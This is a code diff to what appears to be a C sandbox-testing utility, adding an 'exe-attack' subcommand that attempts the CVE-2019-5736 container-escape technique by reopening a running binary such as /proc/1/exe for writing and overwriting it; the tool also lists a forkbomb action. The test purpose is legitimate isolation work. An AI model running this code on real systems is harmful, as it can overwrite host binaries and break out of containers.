@@ -600,6 +600,7 @@ static const char usage[] =
   "        personality | sched | ioprio | oom | umask | hostname | domainname\n"
   "        keyring | status KEY... | cat FILE\n"
   "act:    write FILE DATA | mount SRC DST TYPE [DATA] | mknod PATH c|b|p MAJ MIN\n"
+  "        exe-attack PATH [SECS]\n"
   "        kill PID SIG | ptrace PID | sleep SECS | spin SECS | alloc MIB | forkbomb N\n"
   "probe:  open PATH | syscall NAME [ARGS]   (print `ok` or `errno=N`, exit 0)\n"
   "        syscall names: mkdir rmdir unlink symlink getcwd chmod chown chroot unshare\n"
@@ -702,6 +703,29 @@ main (int argc, char **argv)
       waitpid (pid, NULL, __WALL);
       ptrace (PTRACE_DETACH, pid, NULL, NULL);
       return printf ("ok\n"), 0;
+    }
+  if (IS ("exe-attack", 1))
+    {
+      /* CVE-2019-5736 attempt: keep an O_PATH fd on PATH (e.g. /proc/1/exe),
+         then retry reopening it for writing for SECS (ETXTBSY while it
+         runs); prints `open errno=N`, `reopen errno=N`, `write errno=N` or
+         `written` (PATH's first bytes overwritten).  */
+      double secs = nargs > 1 ? strtod (args[1], NULL) : 5;
+      char p[64];
+      int fd = open (args[0], O_PATH), w = -1;
+      if (fd < 0)
+        return printf ("open errno=%d\n", errno), 0;
+      snprintf (p, sizeof p, "/proc/self/fd/%d", fd);
+      for (long i = 0; i <= (long) (secs * 100) && w < 0; i++)
+        if ((w = open (p, O_WRONLY)) < 0 && errno == ETXTBSY)
+          usleep (10000);
+        else if (w < 0)
+          break;
+      if (w < 0)
+        return printf ("reopen errno=%d\n", errno), 0;
+      if (write (w, "pwned!\n", 7) != 7)
+        return printf ("write errno=%d\n", errno), 0;
+      return printf ("written\n"), 0;
     }
   if (IS ("stat", 1))
     return cmd_stat (args[0], 1);
